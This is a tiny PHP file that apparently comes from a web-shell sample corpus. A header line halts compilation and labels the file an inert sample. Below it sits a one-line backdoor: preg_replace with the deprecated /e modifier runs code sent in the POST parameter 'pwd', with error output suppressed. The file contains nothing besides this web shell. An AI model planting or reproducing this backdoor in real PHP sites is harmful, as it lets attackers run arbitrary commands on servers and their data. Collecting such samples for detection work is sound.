<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
@preg_replace("/gte/e", $_POST['pwd'], "nrt");
